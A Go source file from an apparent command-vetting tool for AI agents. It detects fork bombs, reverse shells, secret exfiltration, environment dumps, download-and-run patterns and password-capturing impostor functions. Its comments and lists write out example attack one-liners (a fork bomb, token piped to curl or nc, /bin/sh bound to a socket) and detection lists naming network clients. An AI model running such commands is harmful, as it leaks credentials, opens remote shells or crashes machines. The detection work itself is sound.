package analysis

import (
	"fmt"
	"path"
	"slices"
	"strings"

	"github.com/toolguard/toolguard/internal/lazyre"
	"github.com/toolguard/toolguard/netguard"
	"github.com/toolguard/toolguard/risk"
	"github.com/toolguard/toolguard/shell"
)

// This file judges what the commands of one call do together, whatever
// they are called (DESIGN §3, "critical by effect"): fork bombs in any
// language, a secret sent to the network, the environment printed, a
// shell on a network connection, a download run; and, through the flow of
// files (flow.go), running a file the same call fetched or wrote.

// whole runs the checks that look at the whole call.
func (a *Analysis) whole(s *shell.Script) {
	if !a.spend(len(s.Commands) + commandCost*len(a.seen)) {
		return
	}
	start := a.mark()
	a.forkBombs(s)
	a.impostors(s)
	f := &flow{a: a} // its maps made on their first entries: most calls write no file
	for _, sc := range a.seen {
		m := a.mark()
		f.step(sc)
		if sc.at != (risk.Span{}) { // a command of nested code: its spans are the code's
			a.ctx.Findings.pointAt(m, sc.at)
		}
	}
	a.secretsToNetwork()
	a.repositoryLeaving()
	a.judge.Call(a.Report(s))
	a.environmentDumps()
	a.networkShells()
	a.fetchedRunners()
	a.downloadedStdin()
	a.inSource(start, len(s.Source))
}

// inSource makes the findings from index start on that point outside the
// call's text (at a word of nested code, whose spans are the code's) point
// at the whole call, so that every finding points inside what was judged.
func (a *Analysis) inSource(start, n int) {
	found := *a.ctx.Findings
	for i := start; i < len(found); i++ {
		if sp := found[i].Span; sp.Start < 0 || sp.End > n || sp.Start > sp.End {
			found[i].Span = risk.Span{End: n}
		}
	}
}

// networkShells finds one command that both talks to the network and runs
// a shell or a program it names by URL: a shell bound to a connection
// (socket -p '/bin/sh -i' HOST PORT, aria2c --on-download-complete=/bin/sh)
// is a reverse shell, and running a program straight from a URL (uv run
// https://…/x.py) is fetching code and running it.
func (a *Analysis) networkShells() {
	network := false
	for si := range a.seen {
		sc := &a.seen[si]
		network = network || sc.Result.Network
	}
	for si := range a.seen {
		sc := &a.seen[si]
		if network && isShellName(sc.Cmd.Name) && redirectsToUnknownFd(sc.Cmd) {
			a.add(shellOnNetwork(sc.Cmd, sc.Cmd.Span, text(sc.Cmd))) // zsh >&$REPLY after ztcp
		}
	}
	for si := range a.seen {
		sc := &a.seen[si]
		for _, w := range sc.Result.Execs {
			if isURLText(w.Value) {
				a.add(Critical("effects.download-run", risk.CatRemoteCode, w.Span, w.Value,
					fmt.Sprintf("%s runs code straight from %s: code from the internet runs unreviewed.", sc.Cmd.Name, w.Value),
					"download, review, then run in separate steps with a person watching"))
			}
		}
		if !sc.Result.Network {
			continue
		}
		for _, w := range sc.Result.Execs {
			if isShellName(path.Base(w.Value)) {
				a.add(shellOnNetwork(sc.Cmd, w.Span, w.Value))
			}
		}
		for _, c := range sc.Result.Code {
			if c.Lang == "shell" && startsShell(c.Text) {
				a.add(shellOnNetwork(sc.Cmd, c.Span, c.Text))
			}
		}
	}
}

// downloadedStdin finds a shell or interpreter fed, through a here-string
// or here-document, the output of a download (bash <<< "$(curl …)"):
// fetching code and running it.
func (a *Analysis) downloadedStdin() {
	for si := range a.seen {
		sc := &a.seen[si]
		in := sc.Cmd.Stdin
		if in == nil || in.Known || in.Via != "herestring" && in.Via != "heredoc" {
			continue
		}
		if !isShellName(sc.Cmd.Name) && !isInterpreter(sc.Cmd.Name) {
			continue
		}
		if !a.spend(len(a.seen)) {
			return
		}
		for _, dl := range a.seen {
			if dl.Result.Network && dl.Cmd.Origin == "cmdsubst" && within(dl.Cmd.Span, in.Span) {
				a.add(Critical("effects.download-run", risk.CatRemoteCode, in.Span, text(dl.Cmd),
					fmt.Sprintf("%s runs what %s downloads: code from the internet runs unreviewed.", sc.Cmd.Name, dl.Cmd.Name),
					"download, review, then run in separate steps with a person watching"))
				return
			}
		}
	}
}

// within reports whether span a lies inside span b.
func within(a, b risk.Span) bool { return a.Start >= b.Start && a.End <= b.End && b.End > b.Start }

// redirectsToUnknownFd reports whether a command's input or output is a
// descriptor chosen at run time (>&$REPLY, <&$fd).
func redirectsToUnknownFd(c *shell.Command) bool {
	for _, r := range c.Redirects {
		if (r.Op == ">&" || r.Op == "<&") && !r.Target.Known {
			return true
		}
	}
	return false
}

func shellOnNetwork(cmd *shell.Command, span risk.Span, what string) risk.Finding {
	return Critical("effects.network-shell", risk.CatReverseShell, span, Shorten(what),
		fmt.Sprintf("%s connects to the network and runs a shell (%s) on what comes through: a remote shell.", cmd.Name, Shorten(what)),
		"run the commands you need directly")
}

// startsShell reports whether shell code starts an interactive shell or
// one that reads commands from its input ("/bin/sh -i", "bash").
func startsShell(code string) bool {
	f := strings.Fields(code)
	if len(f) == 0 || !isShellName(path.Base(f[0])) {
		return false
	}
	for _, a := range f[1:] {
		if a == "-c" || !strings.HasPrefix(a, "-") {
			return false // a command or a script: judged as such
		}
	}
	return true
}

func isURLText(v string) bool {
	scheme, _, ok := strings.Cut(v, "://")
	return ok && (scheme == "http" || scheme == "https" || scheme == "ftp")
}

// environmentDumps asks about commands that print the whole environment
// (env, printenv, export -p, set, /proc/*/environ), which holds the
// session's tokens, unless a grep on names that are not secrets filters
// the output (env | grep ^GOPATH).
func (a *Analysis) environmentDumps() {
	for si := range a.seen {
		sc := &a.seen[si]
		if !isEnvDump(sc.Cmd) || sc.Result.Credentials || namesFilter(sc.Cmd.PipeTo) || countsOnly(sc.Cmd.PipeTo) {
			continue
		}
		a.add(risk.Finding{Rule: "effects.credentials", Category: risk.CatSecretRead, Tier: risk.Execute,
			Blast: risk.BlastHigh, Verdict: risk.Ask, Span: sc.Cmd.Span, Subject: text(sc.Cmd),
			Reason:     sc.Cmd.Name + " prints the whole environment, with any tokens and passwords it holds, into the agent's context.",
			Suggestion: "print only the variables you need (printenv PATH GOPATH, env | grep ^GOPATH)"})
	}
}

// namesFilter reports whether c keeps only lines whose variable names are
// not secrets: grep (without -v) for plain names or prefixes that no
// well-known credential variable holds (env | grep AWS keeps
// AWS_SECRET_ACCESS_KEY; env | grep ^GOPATH keeps none).
func namesFilter(c *shell.Command) bool {
	if c == nil || c.Name != "grep" && c.Name != "egrep" && c.Name != "rg" {
		return false
	}
	var pattern string
	for _, a := range c.Args() {
		switch {
		case !a.Known:
			return false
		case a.Value == "-v" || strings.HasPrefix(a.Value, "--invert") || strings.HasPrefix(a.Value, "-") && strings.Contains(a.Value[1:], "v") && !strings.HasPrefix(a.Value, "--"):
			return false
		case strings.HasPrefix(a.Value, "-"):
		case pattern == "":
			pattern = a.Value
		default:
			return false // a file operand: not filtering the pipe
		}
	}
	if pattern == "" {
		return false
	}
	for _, alt := range strings.Split(pattern, "|") {
		name := strings.Trim(alt, "^$=()")
		anchored := strings.HasPrefix(strings.TrimLeft(alt, "("), "^")
		if name == "" || strings.Trim(name, "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789_") != "" ||
			risk.MatchesSecretName(name, anchored) || containsSecretWord(name) {
			return false
		}
	}
	return true
}

// countsOnly reports whether c prints nothing of what it reads on its
// standard input but numbers or its exit status: wc with only its count
// options, grep with -c or -q (env | grep -c ^AWS_ counts the variables;
// no line of the environment reaches the output, whatever the pattern).
// Every word must be known and no file operand given; a short option
// cluster counts only when it holds no option that takes a value.
func countsOnly(c *shell.Command) bool {
	if c == nil {
		return false
	}
	args := c.Args()
	for _, a := range args {
		if !a.Known {
			return false
		}
	}
	switch c.Name {
	case "wc":
		for _, a := range args {
			if !slices.Contains(wcCounts, a.Value) && !shortCluster(a.Value, "lcwmL", "") {
				return false
			}
		}
		return true
	case "grep", "egrep", "fgrep":
		counts, operands := false, 0
		for _, a := range args {
			switch v := a.Value; {
			case v == "--count" || v == "--quiet" || v == "--silent":
				counts = true
			case shortCluster(v, "cq", grepNoValue):
				counts = true
			case strings.HasPrefix(v, "-") && v != "-":
			default:
				operands++
			}
		}
		return counts && operands <= 1 // the pattern, or the value of -e, -f, -m …: no file read instead
	}
	return false
}

// wcCounts are wc's options, each printing one count.
var wcCounts = []string{"--lines", "--bytes", "--words", "--chars", "--max-line-length"}

// grepNoValue are grep's short options that take no value.
const grepNoValue = "EFGPivwxyclLoqsbHhnTZzUaI"

// shortCluster reports whether v is one short-option word ("-ic") whose
// letters are all in allowed, at least one being in need (when need is
// not empty, allowed is need plus more).
func shortCluster(v, need, allowed string) bool {
	if len(v) < 2 || v[0] != '-' || v[1] == '-' {
		return false
	}
	if allowed == "" {
		allowed = need
	}
	found := false
	for _, r := range v[1:] {
		if !strings.ContainsRune(allowed, r) {
			return false
		}
		found = found || strings.ContainsRune(need, r)
	}
	return found
}

// containsSecretWord reports whether a filter pattern names a kind of
// secret (key, token, secret, pass…), which IsSecretName only finds in
// whole variable names.
func containsSecretWord(s string) bool {
	low := strings.ToLower(s)
	for _, w := range []string{"key", "token", "secret", "pass", "pwd", "auth", "cred", "session", "cookie", "private"} {
		if strings.Contains(low, w) {
			return true
		}
	}
	return false
}

// forkBombs finds functions that call themselves in the background or in
// a pipeline (:(){ :|:& };:, x(){ x & x; }; x): each call starts more
// copies than it waits for.
func (a *Analysis) forkBombs(s *shell.Script) {
	for _, c := range s.Commands {
		if c.Unbounded {
			a.add(forkBombFinding(c.Span, c.Name))
			return
		}
		if c.Origin == "function" && s.Recursive[c.Name] && (c.Background || c.PipeTo != nil || c.PipeFrom != nil) {
			a.add(forkBombFinding(c.Span, c.Name))
			return
		}
	}
}

// impostors denies an alias or function named after a program that asks
// for a password (sudo, su, ssh, …) whose code reads input: typed at that
// name it shows its own prompt and keeps what is typed.
func (a *Analysis) impostors(s *shell.Script) {
	if len(s.Impostors) == 0 {
		return
	}
	im := s.Impostors[0]
	a.add(Critical("effects.password-capture", risk.CatSecretRead, im.Span, im.Name,
		fmt.Sprintf("An alias or function named %s reads what is typed: called as %s, it shows its own prompt and captures the password.", im.Name, im.Name),
		"leave "+im.Name+" to the real program; give a helper its own name"))
}

func forkBombFinding(span risk.Span, subject string) risk.Finding {
	return Critical("effects.fork-bomb", risk.CatDenialOfService, span, subject,
		"The call starts copies of itself that start more copies (a fork bomb) until the machine stops responding.",
		"run the program once, or bound the number of processes")
}

// secretsToNetwork denies a call that prints credentials or the
// environment and reaches the network (gh auth token | curl -d @- …), and
// a network command whose words carry a secret variable ($GITHUB_TOKEN in a
// URL, a header or a body) to anyone but the service that issued it.
func (a *Analysis) secretsToNetwork() {
	var leaks []*Command
	for i := range a.seen {
		sc := &a.seen[i]
		if sc.Result.Credentials || sc.Result.Private || isEnvDump(sc.Cmd) {
			leaks = append(leaks, sc)
		}
	}
	for _, sc := range a.seen {
		if !sc.Result.Network {
			continue
		}
		// A command that fetches a credential and prints it (aws sts
		// get-session-token) is its own source, not a sink: that is asked
		// by effects.credentials. Another command reaching the network is.
		var copied *Command
		for _, leak := range leaks {
			switch {
			case leak.Cmd == sc.Cmd || returnsHome(leak.Cmd, sc.Cmd):
				continue
			case copied == nil && leak.Result.Private && !leak.Result.Credentials && !isEnvDump(leak.Cmd) &&
				slices.Contains(databaseLoaders, sc.Cmd.Name):
				copied = leak
				continue
			}
			a.add(Critical("effects.secret-to-network", risk.CatExfiltration, sc.Cmd.Span, text(leak.Cmd),
				fmt.Sprintf("The call prints %s (%s) and reaches the network (%s).", leakWhat(leak), text(leak.Cmd), sc.Cmd.Name),
				"use the credential where it is needed without printing it"))
			return
		}
		if copied != nil {
			a.add(risk.Finding{Rule: "effects.data-to-database", Category: risk.CatExfiltration, Tier: risk.Destructive,
				Blast: risk.BlastHigh, Verdict: risk.Ask, Span: sc.Cmd.Span, Subject: text(sc.Cmd),
				Reason: fmt.Sprintf("The call copies a database's content (%s) into a database on another host (%s).",
					text(copied.Cmd), text(sc.Cmd)),
				Suggestion: "let a person confirm where the data goes"})
		}
		a.secretWords(sc)
		a.secretPipedIn(sc)
	}
}

// returnsHome reports whether leak runs on another host as the remote
// command of net (ssh host env): what it prints comes back to this
// machine, like a local env's, and is judged as that, not as sent out.
// Its output piped on to another client is still sent (ssh host env |
// curl -d @- URL): that client is another sink.
func returnsHome(leak, net *shell.Command) bool {
	return leak.Remote != "" && net.Remote == "" && net.Span.Start <= leak.Span.Start && leak.Span.End <= net.Span.End
}

// secretPipedIn checks what echo or printf print into the standard input
// of a client that sends its input to the address it is given (echo
// "$TOKEN" | curl -d @- https://…, printf %s "$KEY" | base64 | nc host
// 80), through filters that pass what they read on in another form: a
// secret variable among the printer's words is sent, as if it were one of
// the client's own words. A program that takes a secret on its input to
// log in (docker login --password-stdin, gh auth login --with-token) is no
// such client.
func (a *Analysis) secretPipedIn(sc Command) {
	if !slices.Contains(stdinSenders, sc.Cmd.Name) {
		return
	}
	for p, n := sc.Cmd.PipeFrom, 0; p != nil && n < maxPipeFilters; p, n = p.PipeFrom, n+1 {
		switch {
		case p.Name == "echo" || p.Name == "printf":
			for _, w := range p.Args() {
				if !a.secretWord(sc, w) {
					return
				}
			}
			return
		case !slices.Contains(passFilters, p.Name):
			return
		case !a.secretHereDocs(sc, p):
			return
		}
	}
}

// secretHereDocs checks the here-documents and here-strings of c, the
// network command sc itself or a filter piping its input on to it: a
// secret expanded into one is sent (curl -d @- URL <<< "$TOKEN", cat
// <<EOF | nc host 80). A quoted delimiter keeps $NAME literal, and such a
// body is known. False: stop, as secretWord.
func (a *Analysis) secretHereDocs(sc Command, c *shell.Command) bool {
	for _, r := range c.Redirects {
		if r.IsHereDoc() && !a.secretWord(sc, shell.Word{Value: r.Body, Known: r.BodyKnown, Span: r.Span}) {
			return false
		}
	}
	return true
}

// databaseLoaders are the database clients that load what they are given
// into the database they connect to: a dump piped into one on another host
// is a copy between databases (pg_dump app | psql -h db2 app), which a
// person confirms, not a leak to any address.
var databaseLoaders = []string{"psql", "pg_restore", "mysql", "mariadb", "mongorestore", "mongoimport", "mongosh",
	"clickhouse-client", "redis-cli", "cqlsh", "sqlcmd"}

// maxPipeFilters bounds the filters secretPipedIn follows back.
const maxPipeFilters = 8

// stdinSenders are the network clients that send what they read on their
// standard input to the address they are given.
var stdinSenders = []string{"curl", "wget", "http", "https", "xh", "nc", "ncat", "netcat", "socat", "telnet"}

// passFilters pass what they read on, in another form that still carries
// it (encoded, compressed, quoted, cut to lines).
var passFilters = []string{"base64", "base32", "basenc", "xxd", "od", "hexdump", "gzip", "bzip2", "xz", "zstd",
	"tr", "rev", "cat", "tee", "sed", "jq", "head", "tail", "cut", "iconv", "uuencode"}

// leakWhat names what a leaking command prints.
func leakWhat(l *Command) string {
	if l.Result.Private && !l.Result.Credentials {
		return "private data (the clipboard, a database's content)"
	}
	return "credentials or the environment"
}

var varRefRE = lazyre.Regexp{Expr: `\$\{?([A-Za-z_][A-Za-z0-9_]*)`}

// secretWords checks the words of one network command for secret
// variables.
func (a *Analysis) secretWords(sc Command) {
	for _, w := range sc.Cmd.Args() {
		if !a.secretWord(sc, w) {
			return
		}
	}
	for _, as := range sc.Cmd.Assigns {
		if !a.secretWord(sc, as.Value) {
			return
		}
	}
	// A here-document or here-string is the command's input, sent as
	// surely as its words (curl -d @-, nc, ssh's remote shell).
	a.secretHereDocs(sc, sc.Cmd)
}

// secretWord checks one word of secretWords; false: stop, the budget is
// spent or the word sends a secret.
func (a *Analysis) secretWord(sc Command, w shell.Word) bool {
	if w.Known {
		return true
	}
	if !a.spend(ScanCost(len(w.Value))) {
		return false
	}
	for _, m := range varRefRE.Get().FindAllStringSubmatch(w.Value, -1) {
		name := m[1]
		if !risk.IsSecretName(name) {
			continue
		}
		if issuedBy(name, sc.Result.URLs) {
			a.add(risk.Finding{Rule: "effects.secret-to-issuer", Category: risk.CatSecretRead, Tier: risk.Execute,
				Blast: risk.BlastHigh, Verdict: risk.Ask, Span: w.Span, Subject: name,
				Reason:     fmt.Sprintf("The command sends $%s to the service that issued it.", name),
				Suggestion: "let a person confirm the request"})
			continue
		}
		a.add(Critical("effects.secret-to-network", risk.CatExfiltration, w.Span, name,
			fmt.Sprintf("The command sends the secret $%s over the network.", name),
			"pass credentials only to the service that issued them"))
		return false
	}
	return true
}

// issuers maps secret variable name prefixes to the hosts that issue them.
var issuers = []struct{ prefix, host string }{
	{"GITHUB_", "github.com"}, {"GH_", "github.com"}, {"GITLAB_", "gitlab.com"}, {"OPENAI_", "openai.com"},
	{"ANTHROPIC_", "anthropic.com"}, {"AWS_", "amazonaws.com"}, {"NPM_", "npmjs.org"}, {"HF_", "huggingface.co"},
	{"HUGGING", "huggingface.co"}, {"SLACK_", "slack.com"}, {"CLOUDFLARE_", "cloudflare.com"}, {"STRIPE_", "stripe.com"},
}

// issuedBy reports whether every URL the command contacts belongs to the
// issuer of the variable.
func issuedBy(name string, urls []shell.Word) bool {
	up := strings.ToUpper(name)
	host := ""
	for _, is := range issuers {
		if strings.HasPrefix(up, is.prefix) {
			host = is.host
		}
	}
	if host == "" || len(urls) == 0 {
		return false
	}
	for _, u := range urls {
		ep, ok := netguard.ParseEndpoint(u.Value)
		if !ok || ep.Name == "" || ep.Name != host && !strings.HasSuffix(ep.Name, "."+host) {
			return false
		}
	}
	return true
}

// isEnvDump reports a command that prints the whole environment.
func isEnvDump(c *shell.Command) bool {
	switch c.Name {
	case "env", "printenv":
		return len(c.Args()) == 0 || c.Name == "env" && allFlags(c.Args())
	case "export", "declare", "typeset":
		args := c.ArgValues()
		return len(args) == 0 || len(args) == 1 && (args[0] == "-p" || args[0] == "-x" || args[0] == "-px")
	case "set":
		return len(c.Args()) == 0
	}
	for _, w := range c.Args() {
		if w.Value == "/proc/self/environ" || strings.HasSuffix(w.Value, "/environ") && strings.HasPrefix(w.Value, "/proc/") {
			return true
		}
	}
	return false
}

func allFlags(ws []shell.Word) bool {
	for _, w := range ws {
		if !strings.HasPrefix(w.Value, "-") {
			return false
		}
	}
	return true
}
